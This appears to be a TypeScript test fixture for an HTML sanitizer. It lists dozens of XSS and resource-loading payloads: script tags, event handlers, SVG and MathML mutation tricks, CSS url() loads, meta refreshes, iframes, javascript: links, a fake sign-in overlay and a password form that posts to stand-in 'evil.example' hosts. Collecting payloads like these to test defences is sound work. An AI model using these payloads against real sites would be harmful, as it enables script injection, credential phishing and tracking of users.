/** A script logs this text when it runs. */
export const ranMark = 'script ran';
const js = `console.log('${ranMark}')`;
const deep = (open: string, count: number) => open.repeat(count);

/**
 * HTML that tries to run a script, to load something or to reach the page around it, written for this
 * test. `EVIL` stands for the address of a server, another one for each attack.
 */
export const htmlAttacks: [name: string, html: string][] = [
  // Scripts in all forms.
  ['script', `<script>${js}</script>`],
  ['script with a source', '<script src="EVIL/s.js"></script>'],
  ['script in mixed case with a slash', `<ScRiPt/x>${js}</sCrIpT >`],
  ['nested script', `<scr<script></script>ipt>${js}</script>`],
  ['unclosed script', `<script>${js}//`],
  ['module script', `<script type="module">import 'EVIL/m.js'</script>`],
  ['script in a comment that ends early', `<!--><script>${js}</script>-->`],
  ['script after a conditional comment', `<!--[if gte mso 9]><script>${js}</script><![endif]-->`],
  ['script in CDATA', `<![CDATA[<script>${js}</script>]]>`],
  ['null bytes in a tag', `<scr\u0000ipt>${js}</scr\u0000ipt>`],
  ['import map', '<script type="importmap">{"imports":{"x":"EVIL/x.js"}}</script>'],
  // Event handlers.
  ['onerror', `<img src=x onerror="${js}">`],
  ['onerror without quotes or spaces', `<img/src=x/onerror=${js}>`],
  ['onload of a body', `<body onload="${js}"><p>Hi</p></body>`],
  ['autofocus', `<input autofocus onfocus="${js}">`],
  ['details', `<details open ontoggle="${js}"><summary>Hi</summary></details>`],
  ['animation events', `<p style="animation: x 1s" onanimationstart="${js}">Hi</p>`],
  ['marquee', `<marquee onstart="${js}">Hi</marquee>`],
  ['handler with a line break', `<img src=x one\nrror="x" on\nerror=x onerror\n=\n"${js}">`],
  [
    'content-visibility',
    `<p oncontentvisibilityautostatechange="${js}" style="content-visibility:auto">Hi</p>`,
  ],
  // SVG, MathML, and markup that changes when it is parsed again.
  ['svg onload', `<svg onload="${js}"></svg>`],
  ['svg script', `<svg><script>${js}</script></svg>`],
  [
    'svg animation of a link',
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text>x</text></a></svg>`,
  ],
  ['svg image', '<svg><image href="EVIL/i.png"/><use href="EVIL/u.svg#x"/></svg>'],
  [
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'math and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  ],
  ['svg and style', `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`],
  [
    'form inside a table',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  ],
  [
    'xmp and title',
    `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp><title><a title="</title><img src=x onerror=${js}>">`,
  ],
  [
    'template',
    `<template><img src=x onerror="${js}"></template><div><template shadowrootmode=open><img src=x onerror="${js}"></template></div>`,
  ],
  // Styles.
  [
    'style sheet with an import',
    '<style>@import "EVIL/a.css"; body { background: url(EVIL/b.png) }</style>',
  ],
  ['linked style sheet', '<link rel="stylesheet" href="EVIL/a.css">'],
  ['background in a style', '<p style="background: url(EVIL/b.png)">Hi</p>'],
  ['escaped url in a style', '<p style="background: u\\72l(EVIL/b.png); color: red">Hi</p>'],
  [
    'url after a comment',
    '<p style="background: ur/**/l(EVIL/b.png); background-image: image-set(\'EVIL/c.png\' 1x)">Hi</p>',
  ],
  [
    'css variables',
    '<div style="--x: url(EVIL/v.png)"><p style="background: var(--x)">Hi</p></div>',
  ],
  [
    'list image, content and cursor',
    '<ul style="list-style: url(EVIL/l.png)"><li style="content: url(EVIL/c.png); cursor: url(EVIL/k.cur), auto">Hi</li></ul>',
  ],
  [
    'font face',
    '<style>@font-face { font-family: x; src: url(EVIL/f.woff2) } p { font-family: x }</style><p>Hi</p>',
  ],
  [
    'expression and binding',
    `<p style="width: expression(${js}); -moz-binding: url(EVIL/x.xml#y); behavior: url(EVIL/z.htc)">Hi</p>`,
  ],
  [
    'over the page',
    '<div style="position: fixed; inset: 0; z-index: 9999; background: #fff">Sign in again</div>',
  ],
  // Other documents and navigation.
  ['meta refresh', '<meta http-equiv="refresh" content="0; url=EVIL/">'],
  ['meta refresh to a script', `<meta http-equiv="refresh" content="0; url=javascript:${js}">`],
  ['base', '<base href="EVIL/"><img src="x.png"><a href="y">Hi</a>'],
  ['iframe', '<iframe src="EVIL/"></iframe>'],
  [
    'iframe with a document',
    `<iframe srcdoc="<script>${js}</script><img src='EVIL/i.png'>"></iframe>`,
  ],
  [
    'object and embed',
    '<object data="EVIL/o"></object><embed src="EVIL/e"><applet code="EVIL/a"></applet>',
  ],
  ['frameset', '<frameset><frame src="EVIL/"></frameset>'],
  [
    'portal and fenced frame',
    '<portal src="EVIL/p"></portal><fencedframe src="EVIL/f"></fencedframe>',
  ],
  [
    'form',
    '<form action="EVIL/f"><input name="password"><button formaction="EVIL/b">Sign in</button></form>',
  ],
  // Hints and media.
  [
    'prefetch hints',
    '<link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL"><link rel="prefetch" href="EVIL/p"><link rel="prerender" href="EVIL/r">',
  ],
  [
    'preloads',
    '<link rel="preload" as="image" href="EVIL/p.png"><link rel="modulepreload" href="EVIL/m.js"><link rel="icon" href="EVIL/i.ico">',
  ],
  [
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"urls":["EVIL/s"]}]}</script>',
  ],
  ['image', '<img src="EVIL/i.png" alt="Logo">'],
  [
    'image set',
    '<img srcset="EVIL/a.png 1x, EVIL/b.png 2x" sizes="1px"><picture><source srcset="EVIL/c.png"><img></picture>',
  ],
  [
    'old image attributes',
    '<img dynsrc="EVIL/a.png" lowsrc="EVIL/b.png" longdesc="EVIL/c"><input type="image" src="EVIL/d.png">',
  ],
  [
    'backgrounds',
    '<table background="EVIL/t.png"><tr><td background="EVIL/d.png">Hi</td></tr></table><body background="EVIL/b.png">',
  ],
  [
    'video and audio',
    '<video src="EVIL/v.mp4" poster="EVIL/p.png" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio><track src="EVIL/t.vtt">',
  ],
  ['image without a scheme', '<img src="//HOST/i.png"><img src=" \nhttps:\\\\HOST/i.png">'],
  [
    'inline svg image',
    `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
  ],
  [
    'ping and attribution',
    '<a href="https://safe.example/" ping="EVIL/p" attributionsrc="EVIL/a">Hi</a><img attributionsrc="EVIL/b">',
  ],
  // Links.
  ['script link', `<a href="javascript:${js}">Hi</a>`],
  [
    'script link with spaces and entities',
    `<a href=" &#14; java&#x09;script&colon;${js}">Hi</a><a href="JaVa\nScRiPt:${js}">Hi</a>`,
  ],
  [
    'data link',
    `<a href="data:text/html,<script>${js}</script>">Hi</a><a href="vbscript:x">Hi</a><a href="blob:EVIL/x">Hi</a>`,
  ],
  [
    'link that keeps its opener',
    '<a href="EVIL/" target="_top" rel="opener">Hi</a><area href="EVIL/">',
  ],
  [
    'clobbering',
    '<a id="location" name="document" class="x">Hi</a><form id="top"><input name="parentNode"></form>',
  ],
  // Size and shape.
  ['nested 10,000 deep', `${deep('<div>', 10_000)}<img src=x onerror="${js}">`],
  [
    'nested tables and blockquotes',
    `${deep('<table><tr><td><blockquote>', 2_000)}<img src=x onerror="${js}">`,
  ],
  [
    'a huge attribute',
    `<p title="${'x'.repeat(200_000)}" style="${'color:red;'.repeat(5_000)}" onclick="${js}">Hi</p>`,
  ],
  [
    'unclosed everything',
    `<p title="<b><i style='color:red' <a href="x" <img src=x onerror=${js} <!-- <script>${js}`,
  ],
  [
    'an attribute name with a quote',
    `<p ""onmouseover=${js}//" x=1"><img src="x"onerror="${js}">Hi</p>`,
  ],
  ['right-to-left override', `<a href="EVIL/\u202efdp.exe" title="\u202e">\u202egnp.exe</a>`],
  [
    'utf-7 and byte order marks',
    `\ufeff+ADw-script+AD4-${js}+ADw-/script+AD4-<meta charset="utf-7">`,
  ],
];

/** The attacks with a server of their own each, such as a3.evil.example. */
export const attacksOf = (): { name: string; host: string; html: string }[] =>
  htmlAttacks.map(([name, html], index) => {
    const host = `a${index}.evil.example`;
    return {
      name,
      host,
      html: html.replaceAll('EVIL', `https://${host}`).replaceAll('HOST', host),
    };
  });
